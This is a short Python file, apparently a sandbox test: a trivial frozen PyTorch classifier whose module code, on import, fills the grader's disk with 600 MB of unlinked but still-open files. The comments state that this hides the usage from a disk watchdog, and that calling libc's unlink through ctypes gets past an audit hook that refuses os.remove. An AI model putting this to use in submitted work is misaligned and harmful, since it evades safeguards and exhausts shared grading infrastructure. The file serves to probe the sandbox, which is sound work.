"""Writes 600 MB into files of its home that it removes and keeps open (two by descriptor, one by a mapping): the
disk watchdog walked the home's folders, where a removed file no longer is, while its blocks stay taken until
the jail dies. At 1,024 descriptors of 512 MB each that is half a terabyte of the grader's disk, uncounted
(found by an attacker's pass over the jail)."""
import torch
from torch import nn


class Net(nn.Module):
    """A frozen linear classifier: needs no weights file (16,128 multiply-adds)."""

    def __init__(self):
        super().__init__()
        self.fc = nn.Linear(48 * 48, 7).requires_grad_(False)

    def forward(self, x):
        return self.fc(x.flatten(1))


import ctypes
import mmap
import os
import time

libc = ctypes.CDLL(None, use_errno=True)  # the audit hook refuses os.remove by name; libc passes it

block = b"\1" * (1 << 20)
kept = []
for k in range(3):
    path = f"/home/fercomp/gone-{k}"
    fd = os.open(path, os.O_RDWR | os.O_CREAT, 0o600)
    for _ in range(200):
        os.write(fd, block)
    libc.unlink(path.encode())
    if k == 2:  # the last one only mapped: its descriptor is closed
        kept.append(mmap.mmap(fd, 200 << 20))
        os.close(fd)
    else:
        kept.append(fd)
time.sleep(2)  # several of the watchdog's rounds
raise RuntimeError("LEAKED: 600 MB in removed files, uncounted")
